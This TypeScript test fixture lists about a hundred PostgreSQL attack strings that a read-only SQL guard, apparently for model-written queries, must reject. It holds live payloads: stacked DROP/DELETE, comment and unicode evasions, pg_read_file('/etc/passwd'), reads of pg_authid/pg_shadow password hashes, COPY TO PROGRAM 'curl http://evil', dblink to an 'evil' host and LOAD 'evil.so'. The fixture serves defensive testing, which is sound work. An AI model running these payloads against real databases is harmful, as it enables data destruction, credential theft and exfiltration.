/**
 * Attack list for the SQL guard: every item must be rejected with the given code, and the message must
 * name the offending element (`mentions`, matched case-insensitively) so a model can see what to change.
 */
import type { SqlRejectCode } from '../../src/query/sql-check-result.js';

export interface SqlAttack {
  /** What the item tries. */
  note: string;
  sql: string;
  code: SqlRejectCode | readonly SqlRejectCode[];
  mentions: string;
}

const a = (note: string, sql: string, code: SqlAttack['code'], mentions: string): SqlAttack => ({ note, sql, code, mentions });

export const SQL_ATTACKS: readonly SqlAttack[] = [
  // DDL
  a('create a table', 'CREATE TABLE x (a int)', 'NOT_SELECT', 'CREATE'),
  a('drop a table', 'DROP TABLE incidents', 'NOT_SELECT', 'DROP'),
  a('alter a table', 'ALTER TABLE incidents ADD COLUMN pwned int', 'NOT_SELECT', 'ALTER TABLE'),
  a('truncate a table', 'TRUNCATE incidents', 'NOT_SELECT', 'TRUNCATE'),
  a('create a view', 'CREATE VIEW v AS SELECT * FROM incidents', 'NOT_SELECT', 'CREATE VIEW'),
  a('create a function', "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'NOT_SELECT', 'CREATE FUNCTION'),
  a('grant privileges', 'GRANT ALL ON incidents TO PUBLIC', 'NOT_SELECT', 'GRANT'),
  a('create table as select', 'CREATE TABLE stolen AS SELECT * FROM incidents', 'NOT_SELECT', 'CREATE TABLE AS'),
  // DML
  a('insert a row', "INSERT INTO incidents (id) VALUES ('x')", 'NOT_SELECT', 'INSERT'),
  a('update rows', "UPDATE incidents SET status = 'resolved'", 'NOT_SELECT', 'UPDATE'),
  a('delete rows', 'DELETE FROM incidents', 'NOT_SELECT', 'DELETE'),
  a('merge rows', "MERGE INTO incidents t USING graph_nodes s ON t.id = s.name WHEN MATCHED THEN DELETE", 'NOT_SELECT', 'MERGE'),
  // stacked statements
  a('stacked drop after a select', 'SELECT 1; DROP TABLE incidents', 'MULTIPLE_STATEMENTS', 'DROP'),
  a('stacked delete behind an empty comment', 'SELECT 1;/**/DELETE FROM incidents', 'MULTIPLE_STATEMENTS', 'DELETE'),
  a('stacked select then update', "SELECT * FROM incidents WHERE id = '1'; UPDATE incidents SET status = 'open'", 'MULTIPLE_STATEMENTS', 'UPDATE'),
  // comment tricks
  a('-- comment hides nothing: the newline ends it', 'SELECT 1 -- harmless\n; DROP TABLE incidents', 'MULTIPLE_STATEMENTS', 'DROP'),
  a('block comment pretending to hold the payload', 'SELECT /* ; DROP TABLE x; */ pg_sleep(10)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('nested block comments (PostgreSQL nests them)', 'SELECT 1 /* outer /* inner */ still a comment */, pg_sleep(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('statement after a leading comment', '/* SELECT 1 */ DELETE FROM incidents', 'NOT_SELECT', 'DELETE'),
  a('comment between function name and parenthesis', 'SELECT pg_sleep/**/(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('unterminated comment swallowing a wrapper', 'SELECT * FROM incidents /*', 'PARSE_ERROR', 'comment'),
  // unicode tricks
  a('U& escape spelling pg_sleep', 'SELECT U&"\\0070g_sleep"(5)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('U& escape spelling pg_authid', 'SELECT * FROM U&"pg\\005Fauthid"', 'FORBIDDEN_RELATION', 'pg_authid'),
  a('homoglyph table name (Cyrillic i)', 'SELECT * FROM v_\u0456ncidents', 'FORBIDDEN_RELATION', 'U+0456'),
  a('zero-width space in a quoted name', 'SELECT * FROM "incidents\u200b"', 'FORBIDDEN_RELATION', 'U+200B'),
  a('fullwidth semicolon as a separator', 'SELECT 1\uff1b DROP TABLE incidents', 'PARSE_ERROR', 'not valid PostgreSQL'),
  a('quoted upper-case name', 'SELECT * FROM "INCIDENTS"', 'FORBIDDEN_RELATION', 'INCIDENTS'),
  // sleeping, files, network, large objects
  a('pg_sleep', 'SELECT pg_sleep(10)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('pg_sleep in WHERE', 'SELECT * FROM incidents WHERE pg_sleep(1) IS NOT NULL', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('pg_sleep_for', "SELECT pg_sleep_for('5 minutes')", 'FORBIDDEN_FUNCTION', 'pg_sleep_for'),
  a('pg_read_file', "SELECT pg_read_file('/etc/passwd')", 'FORBIDDEN_FUNCTION', 'pg_read_file'),
  a('pg_ls_dir', "SELECT pg_ls_dir('.')", 'FORBIDDEN_FUNCTION', 'pg_ls_dir'),
  a('lo_import', "SELECT lo_import('/etc/passwd')", 'FORBIDDEN_FUNCTION', 'lo_import'),
  a('dblink to another server', "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'FORBIDDEN_FUNCTION', 'dblink'),
  a('COPY to a program', "COPY incidents TO PROGRAM 'curl http://evil'", 'NOT_SELECT', 'COPY'),
  a('COPY a query to a file', "COPY (SELECT * FROM incidents) TO '/tmp/out'", 'NOT_SELECT', 'COPY'),
  a('query_to_xml runs SQL text', "SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')", 'FORBIDDEN_FUNCTION', 'query_to_xml'),
  a('XML entity expansion', `SELECT xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]><x>&e;</x>')`, 'FORBIDDEN_SYNTAX', 'XML'),
  // settings and roles
  a('SET ROLE', 'SET ROLE postgres', 'NOT_SELECT', 'SET'),
  a('RESET ALL', 'RESET ALL', 'NOT_SELECT', 'RESET'),
  a('SET LOCAL statement_timeout', 'SET LOCAL statement_timeout = 0', 'NOT_SELECT', 'SET'),
  a('set_config to lift the timeout', "SELECT set_config('statement_timeout', '0', false)", 'FORBIDDEN_FUNCTION', 'set_config'),
  a('current_setting to read server config', "SELECT current_setting('data_directory')", 'FORBIDDEN_FUNCTION', 'current_setting'),
  a('SHOW', 'SHOW ALL', 'NOT_SELECT', 'SHOW'),
  a('current_user reveals the role', 'SELECT current_user', 'FORBIDDEN_FUNCTION', 'CURRENT_USER'),
  a('ALTER SYSTEM', "ALTER SYSTEM SET log_statement = 'none'", 'NOT_SELECT', 'ALTER SYSTEM'),
  // data-modifying CTEs, SELECT INTO, locks
  a('DELETE in a CTE', 'WITH d AS (DELETE FROM incidents RETURNING *) SELECT * FROM d', 'DATA_MODIFYING_CTE', 'DELETE'),
  a('UPDATE in a CTE', "WITH u AS (UPDATE incidents SET status = 'open' RETURNING id) SELECT count(*) FROM u", 'DATA_MODIFYING_CTE', 'UPDATE'),
  a('INSERT in a CTE nested in a subquery', "SELECT * FROM (WITH i AS (INSERT INTO graph_nodes VALUES ('x', 'service', now()) RETURNING name) SELECT * FROM i) s", 'DATA_MODIFYING_CTE', 'INSERT'),
  a('SELECT INTO creates a table', 'SELECT * INTO stolen FROM incidents', 'SELECT_INTO', 'INTO'),
  a('FOR UPDATE', 'SELECT * FROM incidents FOR UPDATE', 'LOCKING_CLAUSE', 'FOR UPDATE'),
  a('FOR SHARE SKIP LOCKED in a subquery', 'SELECT * FROM (SELECT * FROM incidents FOR SHARE SKIP LOCKED) s', 'LOCKING_CLAUSE', 'FOR SHARE'),
  // catalog reads
  a('pg_authid through pg_catalog', 'SELECT rolname, rolpassword FROM pg_catalog.pg_authid', 'FORBIDDEN_RELATION', 'pg_catalog.pg_authid'),
  a('information_schema.tables', 'SELECT table_name FROM information_schema.tables', 'FORBIDDEN_RELATION', 'information_schema'),
  a('pg_shadow', 'SELECT usename, passwd FROM pg_shadow', 'FORBIDDEN_RELATION', 'pg_shadow'),
  a('pg_stat_activity', 'SELECT query FROM pg_stat_activity', 'FORBIDDEN_RELATION', 'pg_stat_activity'),
  a('pg_class without schema', 'SELECT relname FROM pg_class', 'FORBIDDEN_RELATION', 'pg_class'),
  a('a relation in another schema', 'SELECT * FROM secret.incidents', 'FORBIDDEN_RELATION', 'secret.incidents'),
  a('a three-part name', 'SELECT * FROM otherdb.public.incidents', 'FORBIDDEN_RELATION', 'otherdb.public.incidents'),
  a('internal table not documented for queries', 'SELECT * FROM state_kv', 'FORBIDDEN_RELATION', 'state_kv'),
  a('CTE named like a catalog reading the real catalog', 'WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid', 'FORBIDDEN_RELATION', 'pg_authid'),
  a('CTE name used outside its scope', 'SELECT * FROM (WITH pg_shadow AS (SELECT 1) SELECT * FROM pg_shadow) a, pg_shadow b', 'FORBIDDEN_RELATION', 'pg_shadow'),
  a('catalog read inside a scalar subquery', 'SELECT (SELECT count(*) FROM pg_roles) AS n FROM incidents', 'FORBIDDEN_RELATION', 'pg_roles'),
  a('regclass cast probes the catalog', "SELECT 'pg_authid'::regclass::oid", 'FORBIDDEN_TYPE', 'regclass'),
  // forbidden functions hidden elsewhere
  a('function in a WHERE subquery', "SELECT * FROM incidents WHERE id IN (SELECT pg_read_file('x'))", 'FORBIDDEN_FUNCTION', 'pg_read_file'),
  a('function in a CTE', 'WITH x AS (SELECT pg_sleep(5)) SELECT * FROM x', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('function in a LATERAL subquery', 'SELECT * FROM incidents i, LATERAL (SELECT pg_sleep(1)) s', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('function in ORDER BY', 'SELECT * FROM incidents ORDER BY pg_sleep(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('function in a window definition', 'SELECT count(*) OVER (ORDER BY pg_sleep(1)) FROM incidents', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('function in the second arm of a UNION', "SELECT id FROM incidents UNION ALL SELECT pg_read_file('/etc/passwd')", 'FORBIDDEN_FUNCTION', 'pg_read_file'),
  a('function in HAVING', 'SELECT status FROM incidents GROUP BY status HAVING max(pg_backend_pid()) > 0', 'FORBIDDEN_FUNCTION', 'pg_backend_pid'),
  a('function in FROM', 'SELECT * FROM pg_sleep(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('function in an aggregate FILTER', 'SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM incidents', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('attribute notation i.f means f(i)', 'SELECT i.pg_column_size FROM incidents i', 'FORBIDDEN_FUNCTION', 'pg_column_size'),
  a('schema-qualified pg_sleep', 'SELECT pg_catalog.pg_sleep(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  a('operator from another schema in ORDER BY USING', 'SELECT id FROM incidents ORDER BY id USING OPERATOR(evil.<)', 'FORBIDDEN_SYNTAX', 'evil.<'),
  a('operator from another schema in a comparison', "SELECT id FROM incidents WHERE id OPERATOR(evil.=) 'x'", 'FORBIDDEN_SYNTAX', 'evil.='),
  a('user function in another schema', 'SELECT evil.run()', 'FORBIDDEN_FUNCTION', 'evil.run'),
  a('sequence side effect', "SELECT nextval('query_test_seq')", 'FORBIDDEN_FUNCTION', 'nextval'),
  a('transaction id', 'SELECT txid_current()', 'FORBIDDEN_FUNCTION', 'txid_current'),
  a('memory blow-up from a tiny input', "SELECT repeat('x', 1000000000)", 'FORBIDDEN_FUNCTION', 'repeat'),
  a('dollar-quoted text is only text', 'SELECT $$; DROP TABLE incidents; $$, pg_sleep(1)', 'FORBIDDEN_FUNCTION', 'pg_sleep'),
  // other statements
  a('EXPLAIN ANALYZE executes a DELETE', 'EXPLAIN ANALYZE DELETE FROM incidents', 'NOT_SELECT', 'EXPLAIN'),
  a('DO block', 'DO $$ BEGIN PERFORM pg_sleep(1); END $$', 'NOT_SELECT', 'DO'),
  a('CALL a procedure', 'CALL cleanup()', 'NOT_SELECT', 'CALL'),
  a('PREPARE', 'PREPARE p AS SELECT 1', 'NOT_SELECT', 'PREPARE'),
  a('EXECUTE', 'EXECUTE p', 'NOT_SELECT', 'EXECUTE'),
  a('LISTEN', 'LISTEN aiops', 'NOT_SELECT', 'LISTEN'),
  a('NOTIFY', "NOTIFY aiops, 'x'", 'NOT_SELECT', 'NOTIFY'),
  a('VACUUM', 'VACUUM incidents', 'NOT_SELECT', 'VACUUM'),
  a('LOCK', 'LOCK TABLE incidents', 'NOT_SELECT', 'LOCK'),
  a('BEGIN', 'BEGIN', 'NOT_SELECT', 'transaction'),
  a('COMMIT to escape the read-only transaction', 'COMMIT', 'NOT_SELECT', 'transaction'),
  a('DECLARE a cursor', 'DECLARE c CURSOR FOR SELECT * FROM incidents', 'NOT_SELECT', 'DECLARE'),
  a('LOAD a shared library', "LOAD 'evil.so'", 'NOT_SELECT', 'LOAD'),
  // malformed input
  a('very long input', `SELECT ${Array.from({ length: 5000 }, () => '1').join('+')}`, 'TOO_LONG', 'limit'),
  a('NUL byte truncating what the parser sees', 'SELECT 1\u0000; DROP TABLE incidents', 'NUL_BYTE', 'NUL'),
  a('empty input', '   ', 'EMPTY', 'empty'),
  a('only a comment', '-- SELECT 1', 'EMPTY', 'comment'),
  a('parameter placeholder', 'SELECT * FROM incidents WHERE id = $1', 'FORBIDDEN_SYNTAX', '$1'),
  a('TABLESAMPLE', 'SELECT * FROM incidents TABLESAMPLE SYSTEM (10)', 'FORBIDDEN_SYNTAX', 'TABLESAMPLE'),
  a('syntax error', 'SELEC * FROM incidents', 'PARSE_ERROR', 'SELEC'),
  a('nesting deep enough to exhaust a recursive checker', `SELECT ${'(SELECT '.repeat(300)}1${')'.repeat(300)}`, 'TOO_COMPLEX', 'nest'),
];
